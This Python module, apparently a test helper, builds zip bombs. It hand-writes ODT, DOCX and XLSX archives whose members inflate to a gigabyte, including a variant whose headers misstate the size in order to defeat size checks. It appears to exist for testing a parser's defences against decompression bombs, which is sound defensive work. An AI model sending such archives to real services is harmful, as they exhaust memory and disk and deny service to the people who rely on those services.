"""Zip bombs, as an attacker builds them: a small archive whose member inflates to a huge size.

The deflated data is made without compressing the whole size: one mebibyte of zeros is deflated once and ends
with a full flush (the compressor forgets what came before), so the same bytes stand for every further mebibyte.
A 1 GiB member takes about 1 MB and a fraction of a second to build.
"""

import struct
import zlib

MIB = 1024 * 1024
ODT = b"application/vnd.oasis.opendocument.text"


def _deflated_zeros(size: int) -> tuple[bytes, int]:
    """Raw deflate data that inflates to `size` zero bytes (a whole number of MiB), and its CRC-32."""
    chunk = bytes(MIB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    count = size // MIB
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    return block * count + compressor.flush(), crc


def _zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """An archive from (name, data, method, crc, uncompressed size) members, written by hand so that the sizes
    in its headers are whatever the attacker says."""
    body = b""
    directory = b""
    for name, data, method, crc, size in members:
        encoded = name.encode()
        offset = len(body)
        body += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(data), size, len(encoded), 0)
        body += encoded + data
        directory += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            method,
            0,
            0,
            crc,
            len(data),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        directory += encoded
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(body), 0)
    return body + directory + end


def _stored(name: str, data: bytes) -> tuple[str, bytes, int, int, int]:
    return (name, data, 0, zlib.crc32(data), len(data))


def _bomb(name: str, size: int) -> tuple[str, bytes, int, int, int]:
    data, crc = _deflated_zeros(size)
    return (name, data, 8, crc, size)


def odt_bomb(size: int = 1024 * MIB) -> bytes:
    """An OpenDocument text whose `mimetype` member inflates to `size` bytes (the attack on the ODF check)."""
    return _zip([_bomb("mimetype", size), _stored("content.xml", b"<office:document-content/>")])


def docx_bomb(size: int = 1024 * MIB) -> bytes:
    """A Word document (OOXML) whose body part inflates to `size` bytes."""
    return _zip(
        [
            _stored("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            _bomb("word/document.xml", size),
        ]
    )


def xlsx_bomb(size: int = 1024 * MIB) -> bytes:
    """An Excel workbook whose shared strings part (which openpyxl reads whole) inflates to `size` bytes."""
    return _zip(
        [
            _stored("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            _stored("xl/workbook.xml", b'<?xml version="1.0"?><workbook/>'),
            _bomb("xl/sharedStrings.xml", size),
        ]
    )


def odt_lying_mimetype(size: int = 1024 * MIB) -> bytes:
    """An OpenDocument text whose `mimetype` member says in its headers that it is 39 bytes long but inflates to
    `size` bytes: a check that trusts the headers and then reads the whole stream is still bombed."""
    name, data, method, crc, _size = _bomb("mimetype", size)
    return _zip([(name, data, method, crc, len(ODT)), _stored("content.xml", b"<office:document-content/>")])
